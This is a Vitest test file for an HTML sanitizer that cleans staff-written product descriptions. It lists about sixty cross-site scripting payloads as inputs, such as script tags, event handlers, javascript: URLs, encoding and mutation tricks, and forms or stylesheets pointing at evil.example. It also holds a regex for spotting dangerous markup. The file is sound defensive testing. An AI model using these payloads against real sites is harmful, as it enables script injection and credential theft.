import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const PICTURE = `/uploads/${'ab'.repeat(16)}.webp`

/** Anything that could run code, load from another server, restyle the page or break out of the text. */
const DANGEROUS =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta|video|audio|template|noscript|textarea|select|frame|marquee|details|title)|[\s/]on\w+\s*=[^<]*>|javascript:|vbscript:|data:|style=|srcdoc|srcset|formaction|xlink|expression\(|<[^>]*\sid=|<[^>]*\sclass=|<[^>]*\sname=/i

describe('HTML written by staff', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror=alert(1)>',
    `<img src="${PICTURE}" onerror="alert(1)" onload=alert(1)>`,
    `<img src="${PICTURE}" srcset="https://evil.example/x.png 2x">`,
    '<img src="https://evil.example/track.gif" alt="x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
    '<img src="/uploads/../api/logout" alt="x">',
    '<img src="//evil.example/a.webp" alt="x">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="x" onclick=alert(1)>x</a>',
    '<a href="x" style="position:fixed;inset:0">x</a>',
    '<a href="x" target="_blank" name="csrf-token">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p id="admin" class="fixed inset-0" onmouseover="alert(1)">x</p>',
    '<p/onclick=alert(1)>x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?><script>alert(1)</script>',
    '<xss onafterscriptexecute=alert(1)><script>1</script>',
    '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
    '<body onload=alert(1)>x</body>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<title><img src=x onerror=alert(1)></title>',
    `${'<div>'.repeat(200)}<script>alert(1)</script>`,
  ])('is stripped of anything harmful: %s', (attack) => {
    const clean = cleanHtml(attack)

    expect(clean).not.toMatch(DANGEROUS)
    expect(cleanHtml(clean)).toBe(clean)
  })

  test('keeps the markup that descriptions use', () => {
    const html = `<h2>Why</h2><p>Mail <strong>arrives</strong>, <em>really</em>: <a href="https://example.com/a?b=1" rel="noopener nofollow">see</a>, <a href="/refund-policy">refunds</a>.</p><ul><li>One</li></ul><ol start="3"><li>Three</li></ol><blockquote><p>“Yes”</p></blockquote><pre><code>wp_mail( $to );</code></pre><figure><img src="${PICTURE}" alt="The log" width="800" height="500" loading="lazy" /><figcaption>Log</figcaption></figure><table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table><hr />`

    expect(cleanHtml(html)).toBe(html)
  })

  test('normalizes bold, italic and top-level headings, and marks external links', () => {
    expect(cleanHtml('<h1>A</h1><b>b</b><i>i</i><a href="HTTP://x.example" target="_top">x</a>')).toBe(
      '<h2>A</h2><strong>b</strong><em>i</em><a href="HTTP://x.example" rel="noopener nofollow">x</a>',
    )
  })

  test('treats text that only looks like HTML as text', () => {
    expect(cleanHtml('1 < 2 && 3 > 2')).toBe('1 &lt; 2 &amp;&amp; 3 &gt; 2')
  })
})
